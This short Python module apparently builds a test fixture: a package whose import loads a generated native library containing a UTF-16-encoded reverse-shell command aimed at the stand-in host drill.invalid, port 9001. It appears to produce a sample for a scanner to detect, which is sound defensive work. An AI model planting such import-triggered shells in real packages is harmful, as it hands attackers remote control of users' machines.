"""A shell for somebody else, in letters of two bytes, and started by a name that is looked up at run time."""

from __future__ import annotations

from pathlib import Path

from pratique.drill.elf_writer import library


def build(folder: Path) -> None:
    (folder / "drill").mkdir()
    (folder / "drill" / "__init__.py").write_text("from drill import _native\\n")
    command = "bash -i >& /dev/tcp/drill.invalid/9001 0>&1".encode("utf-16-le")
    (folder / "drill" / "_native.so").write_bytes(library(("dlopen",), (command,)))
